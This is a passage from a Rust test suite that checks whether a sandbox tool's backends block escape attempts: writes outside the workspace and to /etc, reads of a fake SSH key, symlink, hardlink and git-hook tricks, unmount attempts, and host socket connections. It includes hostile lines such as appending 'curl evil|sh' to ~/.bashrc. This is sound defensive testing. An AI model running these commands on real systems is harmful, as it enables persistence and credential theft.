//! The sandbox attack suite, parameterized by backend name, so every
//! backend's test file can run it (`#[macro_use] #[path = "attacks/mod.rs"]
//! mod attacks;` then `attack_tests!("bwrap");`). Each attack runs as root
//! and as an unprivileged user (65534 via setpriv) when the test runs as
//! root; the workspace, the binary and the "host" fixtures are made
//! accessible to that user, so a refusal comes from the sandbox, not from
//! file permissions (the controls prove the user could otherwise act).
#![allow(dead_code)]

use std::io::{BufRead, BufReader, Read};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::common;

mod git_path;
pub use git_path::*;
mod hardening3;
pub use hardening3::*;

pub const NOBODY: u32 = 65534;
pub const PYTHON: &str = "/usr/bin/python3";

/// One attack run: which backend, as whom, in a fresh workspace.
pub struct Ctx {
    pub backend: String,
    /// Make `zot sandbox` exec the launcher (as `zot run` does) instead of
    /// running its code in a forked child (suite name `BACKEND/exec`).
    pub exec_launcher: bool,
    pub unpriv: bool,
    /// Keeps the fixture directory alive.
    _dir: tempfile::TempDir,
    /// The workspace (cwd of the sandbox, writable in workspace-write).
    pub ws: PathBuf,
    /// A directory outside the workspace that the user could write to.
    pub outside: PathBuf,
    /// A fake $HOME with .ssh/id_test and .bashrc (writable by the user).
    pub home: PathBuf,
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

fn traversable(p: &Path) -> bool {
    p.ancestors()
        .all(|a| std::fs::metadata(a).is_ok_and(|m| m.permissions().mode() & 0o001 != 0))
}

/// A base directory outside the host's shared temp dirs (see
/// [`common::fixture_root`]) that other users can traverse.
fn base_dir() -> PathBuf {
    let t = common::fixture_root();
    if traversable(&t) {
        t
    } else {
        std::env::temp_dir()
    }
}

/// The zot binaries (the front and `zot-full`, which it runs from its own
/// directory) copied into a 0755 directory any user can run them from.
/// One copy per binary version (size + mtime of both), reused across test
/// runs and written atomically, so concurrent test binaries share it.
pub fn shared_bin() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        use std::os::unix::fs::MetadataExt;
        let src = common::zot_bin();
        let full = src.with_file_name("zot-full");
        let (m, f) = (
            std::fs::metadata(&src).unwrap(),
            std::fs::metadata(&full).unwrap(),
        );
        let dir = base_dir().join(format!(
            "zot-bin-{:x}-{:x}-{:x}-{:x}",
            m.len(),
            m.mtime(),
            f.len(),
            f.mtime()
        ));
        let bin = dir.join("zot");
        if !bin.exists() {
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
            // The front last: its presence says the copy is complete.
            for from in [&full, &src] {
                let tmp = dir.join(format!(".zot-{}", std::process::id()));
                std::fs::copy(from, &tmp).unwrap();
                std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).unwrap();
                std::fs::rename(&tmp, dir.join(from.file_name().unwrap())).unwrap();
            }
        }
        bin
    })
}

fn chown_r(p: &Path, uid: u32) {
    let _ = std::os::unix::fs::lchown(p, Some(uid), Some(uid));
    if std::fs::symlink_metadata(p).is_ok_and(|m| m.is_dir()) {
        for e in std::fs::read_dir(p).unwrap().flatten() {
            chown_r(&e.path(), uid);
        }
    }
}

pub fn bwrap_works() -> bool {
    Command::new("bwrap")
        .args([
            "--unshare-user",
            "--unshare-pid",
            "--unshare-net",
            "--ro-bind",
            "/",
            "/",
            "--proc",
            "/proc",
            "--dev",
            "/dev",
            "true",
        ])
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// Whether the tests for `backend` can run here; skips (or fails under
/// ZOT_TEST_MUST_WORK=1) otherwise.
pub fn available(backend: &str, unpriv: bool) -> bool {
    if !unpriv && !is_root() {
        // Not a missing host feature: the unprivileged variant runs as this user.
        eprintln!(
            "SKIP: the root variant needs root; the unprivileged variant runs as the current user"
        );
        return false;
    }
    if unpriv
        && is_root()
        && !common::require(
            "setpriv",
            Path::new(common::SETPRIV).exists(),
            "util-linux setpriv missing",
        )
    {
        return false;
    }
    if !common::require(
        "python3",
        Path::new(PYTHON).exists(),
        "/usr/bin/python3 missing",
    ) {
        return false;
    }
    match backend {
        "bwrap" => common::require(
            "bwrap",
            bwrap_works(),
            "bubblewrap missing or cannot create namespaces",
        ),
        // The native and landlock backends need these host features.
        "native" => {
            let u = zot_probes::host().userns();
            common::require(
                "user namespaces",
                u.available && u.proc.available,
                u.hint
                    .as_deref()
                    .unwrap_or("a fresh /proc cannot be mounted"),
            )
        }
        "landlock" => common::require(
            "landlock and seccomp",
            zot_probes::host().landlock().available() && zot_probes::host().seccomp().available,
            "Landlock or seccomp filters unavailable",
        ),
        _ => true,
    }
}

impl Ctx {
    /// A fresh fixture, or None when the backend is unavailable here.
    pub fn new(suite: &str, unpriv: bool) -> Option<Ctx> {
        let (backend, exec_launcher) = match suite.strip_suffix("/exec") {
            Some(b) => (b, true),
            None => (suite, false),
        };
        if !available(backend, unpriv) {
            return None;
        }
        let _ = shared_bin();
        let dir = tempfile::Builder::new()
            .prefix("zot-attack-")
            .tempdir_in(base_dir())
            .unwrap();
        let root = dir.path().to_path_buf();
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
        let ws = root.join("ws");
        let outside = root.join("outside");
        let home = root.join("home");
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.join("readme.txt"), "inside\n").unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("victim"), "original\n").unwrap();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_test"), "SECRET-KEY-MATERIAL\n").unwrap();
        // zot's state dir (its journal lives there): present from the start,
        // so every run sees the same view.
        std::fs::create_dir_all(home.join(".local/state/zot")).unwrap();
        std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
        for p in [&ws, &outside, &home] {
            make_open(p);
        }
        if unpriv && is_root() {
            chown_r(&root, NOBODY);
        }
        Some(Ctx {
            backend: backend.to_string(),
            exec_launcher,
            unpriv,
            _dir: dir,
            ws,
            outside,
            home,
        })
    }

    /// `zot sandbox` as the test user, with the fake HOME, in the workspace.
    pub fn zot(&self) -> Command {
        let mut cmd = common::as_user(shared_bin(), self.unpriv && is_root());
        cmd.env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
            .env("HOME", &self.home)
            .env("LANG", "C.UTF-8")
            .current_dir(&self.ws)
            .stdin(Stdio::null());
        cmd
    }

    /// `--backend B` (and how the launcher starts) for this suite.
    pub fn backend_args(&self) -> Vec<String> {
        let mut args = vec!["--backend".to_string(), self.backend.clone()];
        if self.exec_launcher {
            args.push("--exec-launcher".into());
        }
        args
    }

    /// Arguments for `zot sandbox` in `mode` with this backend.
    pub fn sandbox_args(&self, mode: &str) -> Vec<String> {
        let mut args: Vec<String> = vec!["sandbox".into()];
        args.extend(self.backend_args());
        args.extend(["--mode".into(), mode.into()]);
        // workspace-write refuses on landlock without it; the attacks then
        // test what landlock claims.
        if self.backend == "landlock" {
            args.push("--allow-degraded".into());
        }
        args
    }

    /// Run `sh -c script` in the sandbox.
    pub fn sh(&self, mode: &str, extra: &[&str], script: &str) -> Output {
        let mut cmd = self.zot();
        cmd.args(self.sandbox_args(mode))
            .args(extra)
            .args(["--", "/bin/sh", "-c", script]);
        run_limited(cmd, Duration::from_secs(30))
    }

    /// Run a python3 program in the sandbox.
    pub fn py(&self, mode: &str, extra: &[&str], program: &str) -> Output {
        run_limited(self.py_command(mode, extra, program), Duration::from_secs(30))
    }

    /// The command [`Ctx::py`] runs (to start it in the background).
    pub fn py_command(&self, mode: &str, extra: &[&str], program: &str) -> Command {
        let mut cmd = self.zot();
        cmd.args(self.sandbox_args(mode))
            .args(extra)
            .args(["--", PYTHON, "-c", program]);
        cmd
    }

    fn who(&self) -> &'static str {
        if self.unpriv {
            "unprivileged"
        } else {
            "root"
        }
    }
}

fn make_open(p: &Path) {
    let m = std::fs::symlink_metadata(p).unwrap();
    if m.file_type().is_symlink() {
        return;
    }
    let mode = if m.is_dir() { 0o777 } else { 0o666 };
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    if m.is_dir() {
        for e in std::fs::read_dir(p).unwrap().flatten() {
            make_open(&e.path());
        }
    }
}

/// Run with a hard limit so a broken sandbox cannot hang the suite.
pub fn run_limited(mut cmd: Command, limit: Duration) -> Output {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn zot");
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let t1 = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = out.read_to_end(&mut v);
        v
    });
    let t2 = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = err.read_to_end(&mut v);
        v
    });
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("zot did not finish within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    Output {
        status,
        stdout: t1.join().unwrap(),
        stderr: t2.join().unwrap(),
    }
}

pub fn text(o: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn expect_ok(ctx: &Ctx, what: &str, o: &Output) {
    assert_eq!(
        o.status.code(),
        Some(0),
        "[{} {}] control {what} must succeed:\n{}",
        ctx.backend,
        ctx.who(),
        text(o)
    );
}

/// The sandbox ran the script (not a setup failure) and the script's
/// attack step failed (the script prints BLOCKED when the step fails).
fn expect_blocked(ctx: &Ctx, what: &str, o: &Output) {
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.code() == Some(0) && out.contains("BLOCKED") && !out.contains("ESCAPED"),
        "[{} {}] attack {what} was not blocked:\n{}",
        ctx.backend,
        ctx.who(),
        text(o)
    );
}

fn q(p: &Path) -> String {
    format!("'{}'", p.display())
}

// ------------------------------------------------------------------ controls

pub fn control_write_read_inside_cwd(ctx: &Ctx) {
    let o = ctx.sh("workspace-write", &[], "echo hello > new.txt && cat new.txt && cat readme.txt && mkdir -p sub/dir && echo x > sub/dir/f");
    expect_ok(ctx, "write+read inside cwd", &o);
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join("new.txt")).unwrap(),
        "hello\n"
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("inside"));
}

pub fn control_read_os_release(ctx: &Ctx) {
    let o = ctx.sh("workspace-write", &[], "cat /etc/os-release");
    expect_ok(ctx, "read /etc/os-release", &o);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("ID="),
        "{}",
        text(&o)
    );
}

pub fn control_private_tmp_and_own_unix_socket(ctx: &Ctx) {
    let prog = r#"
import socket, os, threading
p = '/tmp/own.sock'
s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen(1)
c = socket.socket(socket.AF_UNIX); c.connect(p)
a, _ = s.accept(); c.sendall(b'ping'); assert a.recv(4) == b'ping'
print('OK')
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_ok(ctx, "own unix socket in private /tmp", &o);
}

pub fn read_only_mode_refuses_cwd_writes(ctx: &Ctx) {
    let o = ctx.sh(
        "read-only",
        &[],
        "cat readme.txt >/dev/null || exit 9; echo x > ro.txt && echo ESCAPED || echo BLOCKED",
    );
    expect_blocked(ctx, "write cwd in read-only mode", &o);
    assert!(!ctx.ws.join("ro.txt").exists());
}

// ------------------------------------------------------------------ filesystem

pub fn write_outside_cwd(ctx: &Ctx) {
    let victim = ctx.outside.join("victim");
    let script = format!(
        // `../escaped` is checked on the host only: when the workspace lies
        // under /tmp its parent inside the sandbox is the private /tmp, where
        // writing is allowed and nothing reaches the host.
        "echo x > {new} && echo ESCAPED; echo x >> {victim} && echo ESCAPED; echo x > ../escaped; echo BLOCKED",
        new = q(&ctx.outside.join("new")),
        victim = q(&victim)
    );
    let o = ctx.sh("workspace-write", &[], &script);
    expect_blocked(ctx, "write outside cwd", &o);
    assert!(!ctx.outside.join("new").exists());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
    assert!(!ctx.ws.parent().unwrap().join("escaped").exists());
}

pub fn write_etc(ctx: &Ctx) {
    let name = format!("/etc/zot-attack-{}", std::process::id());
    let o = ctx.sh(
        "workspace-write",
        &[],
        &format!("echo x > {name} && echo ESCAPED; echo BLOCKED"),
    );
    let existed = Path::new(&name).exists();
    let _ = std::fs::remove_file(&name);
    expect_blocked(ctx, "write /etc", &o);
    assert!(!existed, "/etc written");
}

pub fn write_bashrc(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "echo 'curl evil|sh' >> \"$HOME/.bashrc\" && echo ESCAPED; echo BLOCKED",
    );
    expect_blocked(ctx, "write ~/.bashrc", &o);
    assert_eq!(
        std::fs::read_to_string(ctx.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
}

pub fn read_ssh_key(ctx: &Ctx) {
    // The sandbox keeps HOME from the environment; use the host path too.
    let key = ctx.home.join(".ssh/id_test");
    let o = ctx.sh(
        "workspace-write",
        &[],
        &format!(
            "cat \"$HOME\"/.ssh/id_* {k} 2>/dev/null; ls \"$HOME/.ssh\" 2>/dev/null; echo BLOCKED",
            k = q(&key)
        ),
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.contains("SECRET-KEY-MATERIAL") && !out.contains("id_test"),
        "[{} {}] ssh key readable:\n{}",
        ctx.backend,
        ctx.who(),
        text(&o)
    );
    expect_blocked(ctx, "read ~/.ssh", &o);
}

pub fn symlink_preplanted(ctx: &Ctx) {
    std::os::unix::fs::symlink(ctx.outside.join("via-link"), ctx.ws.join("planted")).unwrap();
    std::os::unix::fs::symlink(ctx.outside.join("victim"), ctx.ws.join("planted2")).unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let o = ctx.sh(
        "workspace-write",
        &[],
        "echo x > planted && echo ESCAPED; echo x >> planted2 && echo ESCAPED; echo BLOCKED",
    );
    expect_blocked(ctx, "write through a pre-planted symlink", &o);
    assert!(!ctx.outside.join("via-link").exists());
    assert_eq!(
        std::fs::read_to_string(ctx.outside.join("victim")).unwrap(),
        "original\n"
    );
}

pub fn symlink_fresh(ctx: &Ctx) {
    let script = format!(
        "ln -s {t} fresh && echo x > fresh && echo ESCAPED; ln -s {d} dirlink && echo x > dirlink/f && echo ESCAPED; echo BLOCKED",
        t = q(&ctx.outside.join("fresh-target")),
        d = q(&ctx.outside)
    );
    let o = ctx.sh("workspace-write", &[], &script);
    expect_blocked(ctx, "write through a fresh symlink", &o);
    assert!(!ctx.outside.join("fresh-target").exists());
    assert!(!ctx.outside.join("f").exists());
}

pub fn git_hooks_and_config(ctx: &Ctx) {
    let script = "echo 'evil' > .git/hooks/pre-commit && echo ESCAPED; echo '[alias] x = !evil' >> .git/config && echo ESCAPED; \
                  rm -rf .git/hooks && echo ESCAPED; echo BLOCKED";
    let o = ctx.sh("workspace-write", &[], script);
    expect_blocked(ctx, "write .git/hooks and .git/config", &o);
    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
    assert!(ctx.ws.join(".git/hooks").is_dir());
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
}

pub fn protected_paths_missing(ctx: &Ctx) {
    std::fs::remove_dir_all(ctx.ws.join(".git")).unwrap();
    // Inside a git work tree no `.git` placeholder is made (it would break
    // git there): a repository created is renamed aside after the run
    // instead (checked below: no `.git` on the host afterwards).
    let in_work_tree = ctx.ws.ancestors().skip(1).any(|a| a.join(".git").exists());
    let git = if in_work_tree {
        "mkdir -p .git/hooks; git init -q . 2>/dev/null;"
    } else {
        "mkdir -p .git/hooks && echo ESCAPED; git init -q . 2>/dev/null && echo ESCAPED;"
    };
    let script = format!(
        "{git} mkdir .zot && echo ESCAPED; \
         echo x > .agents && echo ESCAPED; echo x > ro-dir/new && echo ESCAPED; echo BLOCKED"
    );
    let script = script.as_str();
    let o = ctx.sh("workspace-write", &["--read-only-path", "ro-dir"], script);
    expect_blocked(ctx, "create missing protected paths", &o);
    for p in [".git", ".zot", ".agents", "ro-dir"] {
        assert!(
            !ctx.ws.join(p).exists(),
            "{p} exists on the host after the run (attack or leftover placeholder)"
        );
    }
}

pub fn rename_git_aside(ctx: &Ctx) {
    let script = "mv .git .git-old && echo ESCAPED; mkdir -p .git/hooks 2>/dev/null; echo evil > .git/hooks/pre-commit && echo ESCAPED; \
                  cp -r .git .git2 2>/dev/null; echo BLOCKED";
    let o = ctx.sh("workspace-write", &[], script);
    expect_blocked(ctx, "rename .git aside and write into it", &o);
    assert!(ctx.ws.join(".git/hooks").is_dir() && !ctx.ws.join(".git-old").exists());
    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
}

pub fn nested_repo_hooks(ctx: &Ctx) {
    std::fs::create_dir_all(ctx.ws.join("vendor/lib/.git")).unwrap();
    std::fs::write(ctx.ws.join("vendor/lib/.git/config"), "[core]\n").unwrap();
    make_open(&ctx.ws.join("vendor"));
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let script = "mkdir vendor/lib/.git/hooks && echo ESCAPED; echo x >> vendor/lib/.git/config && echo ESCAPED; \
                  echo ok > vendor/lib/file || exit 9; echo BLOCKED";
    let o = ctx.sh("workspace-write", &[], script);
    expect_blocked(ctx, "create .git/hooks in a nested repo", &o);
    assert!(!ctx.ws.join("vendor/lib/.git/hooks").is_dir());
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join("vendor/lib/.git/config")).unwrap(),
        "[core]\n"
    );
    assert!(ctx.ws.join("vendor/lib/file").exists());
}

/// The protections of a repository's control files are mounts (on bwrap
/// the launcher makes them inside the view): the command tries to take them
/// off with `umount2` (lazy and forced) before writing through, and to
/// cover them with a mount of its own.
pub fn unmount_protections(ctx: &Ctx) {
    std::fs::create_dir_all(ctx.ws.join("vendor/lib/.git/hooks")).unwrap();
    std::fs::write(ctx.ws.join("vendor/lib/.git/config"), "[core]\n").unwrap();
    make_open(&ctx.ws.join("vendor"));
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let prog = r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for p in [b'vendor/lib/.git/config', b'vendor/lib/.git/hooks', b'vendor/lib/.git', b'.git/config']:
    for flags in (2, 1, 0):
        if libc.umount2(p, flags) == 0:
            print('ESCAPED umount', p, flags)
if libc.mount(b'/dev/null', b'vendor/lib/.git', None, 4096, None) == 0:
    print('ESCAPED mount')
for f in ['vendor/lib/.git/config', '.git/config']:
    try:
        open(f, 'a').write('[core]\n\thooksPath = /tmp\n')
        print('ESCAPED write', f)
    except OSError:
        pass
try:
    os.rename('vendor/lib/.git', 'vendor/lib/g')
    print('ESCAPED rename')
except OSError:
    pass
print('BLOCKED')
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_blocked(ctx, "unmount a repository's protections", &o);
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join("vendor/lib/.git/config")).unwrap(),
        "[core]\n"
    );
    assert!(ctx.ws.join("vendor/lib/.git/hooks").is_dir());
}

pub fn hardlink_from_outside(ctx: &Ctx) {
    let script = format!(
        "ln {v} hl && echo x >> hl && echo ESCAPED; echo BLOCKED",
        v = q(&ctx.outside.join("victim"))
    );
    let o = ctx.sh("workspace-write", &[], &script);
    expect_blocked(ctx, "hardlink a file from outside and write it", &o);
    assert_eq!(
        std::fs::read_to_string(ctx.outside.join("victim")).unwrap(),
        "original\n"
    );
}

// ------------------------------------------------------------------ network

pub fn tcp_loopback(ctx: &Ctx) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let prog = format!(
        "import socket\ntry:\n s=socket.socket()\n s.settimeout(2)\n s.connect(('127.0.0.1',{port})); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n"
    );
    let o = ctx.py("workspace-write", &[], &prog);
    expect_blocked(ctx, "tcp connect to host loopback", &o);
    assert!(listener.accept().is_err(), "host listener got a connection");
}

pub fn unix_socket_host_path(ctx: &Ctx) {
    // A socket in a host temp dir (hidden) and one under the visible fixture dir's parent /tmp-like place.
    let dir = tempfile::Builder::new()
        .prefix("zot-sock-")
        .tempdir_in(std::env::temp_dir())
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let path = dir.path().join("host.sock");
    let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    l.set_nonblocking(true).unwrap();
    let prog = format!(
        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect({p:?}); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n",
        p = path.display().to_string()
    );
    let o = ctx.py("workspace-write", &[], &prog);
    expect_blocked(ctx, "connect to a host unix socket (path)", &o);
    assert!(l.accept().is_err(), "host unix listener got a connection");
}

pub fn unix_socket_host_abstract(ctx: &Ctx) {
    use std::os::linux::net::SocketAddrExt;
    // Unique per suite: the suites of one test binary run at once.
    let name = format!(
        "zot-attack-{}-{}-{}",
        std::process::id(),
        ctx.backend.replace('/', "-"),
        ctx.unpriv
    );
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    let prog = format!(
        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect('\\0{name}'); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n"
    );
    let o = ctx.py("workspace-write", &[], &prog);
    expect_blocked(ctx, "connect to a host abstract unix socket", &o);
    assert!(
        l.accept().is_err(),
        "host abstract listener got a connection"
    );
}


/// Host sockets (stream and datagram) bound before the launch in a
/// $HOME-like dir, next to the workspace and inside it: connect and sendto
/// must fail; the command's own socket in the workspace keeps working.
pub fn unix_socket_host_anywhere(ctx: &Ctx) {
    use std::os::unix::net::{UnixDatagram, UnixListener};
    let places = [
        ctx.home.join(".docker/run"),
        ctx.outside.clone(),
        ctx.ws.join("sub"),
    ];
    let mut keep = Vec::new();
    let mut paths = Vec::new();
    for (i, d) in places.iter().enumerate() {
        std::fs::create_dir_all(d).unwrap();
        make_open(d);
        let sp = d.join(format!("s{i}.sock"));
        let dp = d.join(format!("d{i}.sock"));
        let l = UnixListener::bind(&sp).unwrap();
        l.set_nonblocking(true).unwrap();
        let g = UnixDatagram::bind(&dp).unwrap();
        g.set_nonblocking(true).unwrap();
        for p in [&sp, &dp] {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
            if ctx.unpriv && is_root() {
                let _ = std::os::unix::fs::lchown(p, Some(NOBODY), Some(NOBODY));
            }
        }
        paths.push((sp.display().to_string(), dp.display().to_string()));
        keep.push((l, g));
    }
    let list: Vec<String> = paths
        .iter()
        .map(|(a, b)| format!("({a:?}, {b:?})"))
        .collect();
    let prog = format!(
        r#"
import socket, os
for sp, dp in [{list}]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(sp); print('ESCAPED stream', sp)
    except OSError as e:
        print('BLOCKED', sp, e)
    d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        d.sendto(b'x', dp); print('ESCAPED dgram', dp)
    except OSError as e:
        print('BLOCKED', dp, e)
try:
    own = 'own.sock'
    o = socket.socket(socket.AF_UNIX); o.bind(own); o.listen(1)
    c = socket.socket(socket.AF_UNIX); c.connect(own)
    a, _ = o.accept(); c.sendall(b'ping'); assert a.recv(4) == b'ping'
    g = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); g.bind('own.dgram')
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'pong', 'own.dgram')
    assert g.recv(4) == b'pong'
    print('OWN-OK')
except OSError as e:
    print('OWN-FAILED', e)
"#,
        list = list.join(", ")
    );
    let o = ctx.py("workspace-write", &[], &prog);
    expect_blocked(ctx, "connect/sendto host unix sockets outside /tmp", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.matches("BLOCKED").count(), 6, "{}", text(&o));
    if ctx.backend != "landlock" {
        assert!(out.contains("OWN-OK"), "own sockets must work:\n{}", text(&o));
    }
    for (l, g) in &keep {
        assert!(l.accept().is_err(), "a host listener got a connection");
        let mut b = [0u8; 4];
        assert!(g.recv(&mut b).is_err(), "a host datagram socket got data");
    }
    // The masks left nothing on the host: the sockets are still sockets.
    for (sp, _) in &paths {
        use std::os::unix::fs::FileTypeExt;
        assert!(std::fs::symlink_metadata(sp).unwrap().file_type().is_socket());
    }
}

// ---------------------------------------------------- sockets after launch
//
// The supervisor decides on every connect and addressed send (seccomp user
// notification): a unix socket is reached only when the sandbox bound it.

/// The supervisor can check the sandbox's calls here (else skip, or fail
/// under ZOT_TEST_MUST_WORK=1).
fn notify_available() -> bool {
    let s = zot_probes::host().seccomp();
    common::require(
        "seccomp user notification",
        s.user_notify,
        s.user_notify_missing.as_deref().unwrap_or("unknown"),
    )
}

/// A socket file any test user may connect to.
fn open_socket_file(ctx: &Ctx, p: &Path) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
    if ctx.unpriv && is_root() {
        let _ = std::os::unix::fs::lchown(p, Some(NOBODY), Some(NOBODY));
    }
}

/// Host sockets made while the sandboxed program runs: it writes
/// `started`, the host binds and writes `ready`.
struct LateSockets {
    streams: Vec<(PathBuf, std::os::unix::net::UnixListener)>,
    dgrams: Vec<(PathBuf, std::os::unix::net::UnixDatagram)>,
}

impl LateSockets {
    fn bind(ctx: &Ctx, dirs: &[PathBuf], prefix: &str) -> LateSockets {
        use std::os::unix::net::{UnixDatagram, UnixListener};
        let mut s = LateSockets {
            streams: Vec::new(),
            dgrams: Vec::new(),
        };
        for (i, d) in dirs.iter().enumerate() {
            std::fs::create_dir_all(d).unwrap();
            let sp = d.join(format!("{prefix}{i}.sock"));
            let dp = d.join(format!("{prefix}{i}.dgram"));
            let l = UnixListener::bind(&sp).unwrap();
            l.set_nonblocking(true).unwrap();
            let g = UnixDatagram::bind(&dp).unwrap();
            g.set_nonblocking(true).unwrap();
            open_socket_file(ctx, &sp);
            open_socket_file(ctx, &dp);
            s.streams.push((sp, l));
            s.dgrams.push((dp, g));
        }
        s
    }

    /// Connections and datagrams that reached the host sockets.
    fn reached(&self) -> usize {
        let mut n = 0;
        for (_, l) in &self.streams {
            while l.accept().is_ok() {
                n += 1;
            }
        }
        for (_, g) in &self.dgrams {
            let mut b = [0u8; 64];
            while g.recv(&mut b).is_ok() {
                n += 1;
            }
        }
        n
    }
}

/// Start `cmd`, wait for `started` in the workspace, run `host`, write
/// `ready`, and wait for the run.
fn with_host_after_start<T>(ctx: &Ctx, cmd: Command, host: impl FnOnce() -> T) -> (Output, T) {
    let started = ctx.ws.join("started");
    let run = std::thread::spawn(move || run_limited(cmd, Duration::from_secs(60)));
    let t0 = Instant::now();
    while !started.exists() {
        if run.is_finished() {
            let o = run.join().unwrap();
            panic!("the sandboxed program ended before it started:\n{}", text(&o));
        }
        assert!(t0.elapsed() < Duration::from_secs(30), "no start");
        std::thread::sleep(Duration::from_millis(5));
    }
    let v = host();
    std::fs::write(ctx.ws.join("ready"), "").unwrap();
    (run.join().unwrap(), v)
}

/// Waits for the host: `started`, then `ready`.
const PY_SYNC: &str = r#"
import socket, os, time, threading, array
open('started', 'w').close()
while not os.path.exists('ready'): time.sleep(0.005)
"#;

/// Stream and datagram sockets a host process binds in the workspace and in
/// a visible read-only directory after the command started: connect,
/// sendto and sendmsg (absolute and relative paths) fail and nothing
/// reaches them; unconfined, the same program reaches them (the test can
/// fail).
pub fn unix_socket_host_after_launch(ctx: &Ctx) {
    if !notify_available() {
        return;
    }
    let dirs = [ctx.ws.join("late"), ctx.outside.join("late")];
    let list: Vec<String> = (0..dirs.len())
        .map(|i| {
            format!(
                "({:?}, {:?})",
                dirs[i].join(format!("h{i}.sock")).display().to_string(),
                dirs[i].join(format!("h{i}.dgram")).display().to_string()
            )
        })
        .collect();
    let prog = format!(
        r#"{PY_SYNC}
targets = [{list}] + [('late/h0.sock', 'late/h0.dgram')]
for sp, dp in targets:
    try:
        socket.socket(socket.AF_UNIX).connect(sp); print('ESCAPED connect', sp)
    except OSError as e:
        print('BLOCKED connect', sp, e)
    d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        d.sendto(b'x', dp); print('ESCAPED sendto', dp)
    except OSError as e:
        print('BLOCKED sendto', dp, e)
    try:
        d.sendmsg([b'x'], [], 0, dp); print('ESCAPED sendmsg', dp)
    except OSError as e:
        print('BLOCKED sendmsg', dp, e)
"#,
        list = list.join(", ")
    );
    for d in &dirs {
        let _ = std::fs::remove_dir_all(d);
    }
    let cmd = ctx.py_command("workspace-write", &["--report"], &prog);
    let (o, socks) = with_host_after_start(ctx, cmd, || LateSockets::bind(ctx, &dirs, "h"));
    expect_blocked(ctx, "connect/sendto/sendmsg host sockets bound after the launch", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.matches("BLOCKED").count(), 9, "{}", text(&o));
    assert!(
        out.contains("Connection refused"),
        "refused like a masked socket:\n{}",
